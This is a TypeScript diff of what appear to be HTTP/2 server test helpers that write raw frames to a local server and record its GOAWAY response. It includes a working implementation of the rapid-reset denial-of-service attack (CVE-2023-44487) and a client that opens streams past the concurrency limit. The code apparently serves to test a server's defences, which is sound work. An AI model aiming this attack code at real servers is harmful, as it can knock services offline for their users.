@@ -52,55 +52,47 @@ export function h2get(s: http2.ClientHttp2Session, headers: http2.OutgoingHttpHe
   });
 }
 
+/** One HTTP/2 frame (RFC 9113 §4.1). */
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const h = Buffer.alloc(9);
+  h.writeUIntBE(payload.length, 0, 3);
+  h[3] = type;
+  h[4] = flags;
+  h.writeUInt32BE(stream, 5);
+  return Buffer.concat([h, payload]);
+}
+
+/** HPACK: :method GET, :scheme https, :path / (static table), :authority as a literal. */
+function getBlock(authority: string): Buffer {
+  const auth = Buffer.from(authority);
+  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, auth.length]), auth]);
+}
+
 /**
- * The rapid-reset attack (CVE-2023-44487) in raw frames: each stream is a
- * HEADERS frame for GET / followed at once by RST_STREAM(CANCEL), in one
- * write per batch, as the attack tools send them. Resolves with the GOAWAY
- * error code the server answers with (or null if the connection ends without
- * one), after at most `streams` streams and `deadlineMs`.
+ * A raw HTTP/2 client connection, frames written by hand (what node's client
+ * would refuse to send). `ready` runs once the server's SETTINGS are in and
+ * acknowledged; resolves with the GOAWAY error code the server sends (null
+ * if the connection ends without one, or at the deadline).
  */
-export function rapidReset(o: { port: number; ca: Buffer; servername: string; authority: string; streams: number; deadlineMs?: number }): Promise<{ goaway: number | null; sent: number }> {
+function rawH2(o: { port: number; ca: Buffer; servername: string; deadlineMs: number }, ready: (sock: tls.TLSSocket, finished: () => boolean) => void): Promise<number | null> {
   return new Promise((resolve, reject) => {
     const sock = tls.connect({ host: '127.0.0.1', port: o.port, ca: o.ca, servername: o.servername, ALPNProtocols: ['h2'] });
-    let sent = 0;
     let buf = Buffer.alloc(0);
     let done = false;
+    let started = false;
     const finish = (goaway: number | null) => {
       if (done) return;
       done = true;
       clearTimeout(t);
       sock.destroy();
-      resolve({ goaway, sent });
+      resolve(goaway);
     };
-    const t = setTimeout(() => finish(null), o.deadlineMs ?? 10_000);
-    sock.on('error', (e) => (done ? undefined : sent > 0 ? finish(null) : reject(e)));
+    const t = setTimeout(() => finish(null), o.deadlineMs);
+    sock.on('error', (e) => (done ? undefined : started ? finish(null) : reject(e)));
     sock.on('close', () => finish(null));
-    const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
-      const h = Buffer.alloc(9);
-      h.writeUIntBE(payload.length, 0, 3);
-      h[3] = type;
-      h[4] = flags;
-      h.writeUInt32BE(stream, 5);
-      return Buffer.concat([h, payload]);
-    };
-    // HPACK: :method GET, :scheme https, :path / (static table), :authority as a literal.
-    const auth = Buffer.from(o.authority);
-    const block = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, auth.length]), auth]);
-    const cancel = Buffer.alloc(4);
-    cancel.writeUInt32BE(0x8);
     sock.once('secureConnect', () => {
       if (sock.alpnProtocol !== 'h2') return reject(new Error(`ALPN chose ${String(sock.alpnProtocol)}, not h2`));
       sock.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
-      const burst = () => {
-        if (done) return;
-        const frames: Buffer[] = [];
-        for (let i = 0; i < 50 && sent < o.streams; i++, sent++) {
-          const id = 2 * sent + 1;
-          frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
-        }
-        if (frames.length > 0) sock.write(Buffer.concat(frames), () => setImmediate(burst));
-      };
-      burst();
     });
     sock.on('data', (c: Buffer) => {
       buf = Buffer.concat([buf, c]);
@@ -111,9 +103,55 @@ export function rapidReset(o: { port: number; ca: Buffer; servername: string; au
         const flags = buf[4]!;
         const payload = buf.subarray(9, 9 + len);
         buf = buf.subarray(9 + len);
-        if (type === 4 && (flags & 1) === 0) sock.write(frame(4, 1, 0, Buffer.alloc(0)));
+        if (type === 4 && (flags & 1) === 0) {
+          sock.write(frame(4, 1, 0, Buffer.alloc(0)));
+          if (!started) {
+            started = true;
+            ready(sock, () => done);
+          }
+        }
         if (type === 7) return finish(payload.readUInt32BE(4));
       }
     });
+  });
+}
+
+/**
+ * The rapid-reset attack (CVE-2023-44487) in raw frames: each stream is a
+ * HEADERS frame for GET / followed at once by RST_STREAM(CANCEL), in one
+ * write per batch, as the attack tools send them. Resolves with the GOAWAY
+ * error code the server answers with (or null if the connection ends without
+ * one), after at most `streams` streams and `deadlineMs`.
+ */
+export async function rapidReset(o: { port: number; ca: Buffer; servername: string; authority: string; streams: number; deadlineMs?: number }): Promise<{ goaway: number | null; sent: number }> {
+  let sent = 0;
+  const block = getBlock(o.authority);
+  const cancel = Buffer.alloc(4);
+  cancel.writeUInt32BE(0x8);
+  const goaway = await rawH2({ ...o, deadlineMs: o.deadlineMs ?? 10_000 }, (sock, finished) => {
+    const burst = () => {
+      if (finished()) return;
+      const frames: Buffer[] = [];
+      for (let i = 0; i < 50 && sent < o.streams; i++, sent++) {
+        const id = 2 * sent + 1;
+        frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
+      }
+      if (frames.length > 0) sock.write(Buffer.concat(frames), () => setImmediate(burst));
+    };
+    burst();
+  });
+  return { goaway, sent };
+}
+
+/**
+ * A client that ignores SETTINGS_MAX_CONCURRENT_STREAMS: once it has
+ * acknowledged the server's SETTINGS, it opens `streams` GET streams in one
+ * write. Resolves with the GOAWAY error code (null: the connection ended
+ * without one, or nothing within 10 s).
+ */
+export function pastConcurrentLimit(o: { port: number; ca: Buffer; servername: string; authority: string; streams: number }): Promise<number | null> {
+  const block = getBlock(o.authority);
+  return rawH2({ ...o, deadlineMs: 10_000 }, (sock) => {
+    sock.write(Buffer.concat(Array.from({ length: o.streams }, (_, i) => frame(1, 0x5, 2 * i + 1, block))));
   });
 }
